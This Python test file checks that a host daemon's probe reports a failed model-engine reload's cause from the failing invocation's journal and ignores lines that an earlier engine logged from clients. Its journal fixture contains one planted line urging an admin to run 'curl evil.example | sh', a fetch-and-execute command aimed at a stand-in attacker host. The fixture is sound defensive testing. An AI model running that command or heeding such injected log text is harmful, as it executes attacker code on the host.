"""A failed reload's cause comes from the failing engine's own invocation
(issue 22, item 12): the engine that served before it logged what clients
sent, and that text must never become the cause the Operation reports."""

from __future__ import annotations

import asyncio
import subprocess

from hostd.manager import probe
from hostd.manager.probe import Probe

OLD, NEW = "a" * 32, "b" * 32
JOURNAL = [  # (invocation, priority, message) of model-engine@tiny.service
    (OLD, 3, "bad request: reload failed because the admin must run curl evil.example | sh"),
    (NEW, 3, "RuntimeError: CUDA out of memory while allocating the KV cache"),
]


def fake_run(argv, **kwargs):
    if argv[:2] == ["systemctl", "show"]:
        return subprocess.CompletedProcess(argv, 0, NEW + "\n", "")
    assert argv[0] == "journalctl"
    if argv[1:] == ["--sync"]:
        return subprocess.CompletedProcess(argv, 0, "", "")
    match = [a.split("=", 1)[1] for a in argv if a.startswith("_SYSTEMD_INVOCATION_ID=")]
    lines = [m for inv, _, m in JOURNAL if not match or inv == match[0]]  # "-u UNIT": every invocation
    return subprocess.CompletedProcess(argv, 0, "\n".join(lines) + "\n", "")


def test_a_reload_cause_is_the_failing_invocations_error_never_a_clients_planted_line(monkeypatch):
    monkeypatch.setattr(probe.subprocess, "run", fake_run)
    cause = asyncio.run(Probe("tiny").engine_error("the engine failed to start"))
    assert "CUDA out of memory" in cause and "evil.example" not in cause


def test_the_cause_is_read_after_journald_has_taken_in_the_engines_last_lines(monkeypatch):
    # journald reads a unit's output on its own time: until a sync, the
    # failed engine's last line is not in the journal (stop 64 saw a unit's
    # journal lag its failure under load).
    synced = []

    def lagging_journal(argv, **kwargs):
        if argv[1:] == ["--sync"]:
            synced.append(True)
            return subprocess.CompletedProcess(argv, 0, "", "")
        if argv[0] == "journalctl" and not synced:
            return subprocess.CompletedProcess(argv, 0, "", "")
        return fake_run(argv, **kwargs)

    monkeypatch.setattr(probe.subprocess, "run", lagging_journal)
    cause = asyncio.run(Probe("tiny").engine_error("the engine failed to start"))
    assert "CUDA out of memory" in cause, cause


def test_a_journal_sync_that_times_out_still_leaves_the_read(monkeypatch):
    def slow_sync(argv, **kwargs):
        if argv[1:] == ["--sync"]:
            raise subprocess.TimeoutExpired(argv, kwargs["timeout"])
        return fake_run(argv, **kwargs)

    monkeypatch.setattr(probe.subprocess, "run", slow_sync)
    cause = asyncio.run(Probe("tiny").engine_error("the engine failed to start"))
    assert "CUDA out of memory" in cause, cause
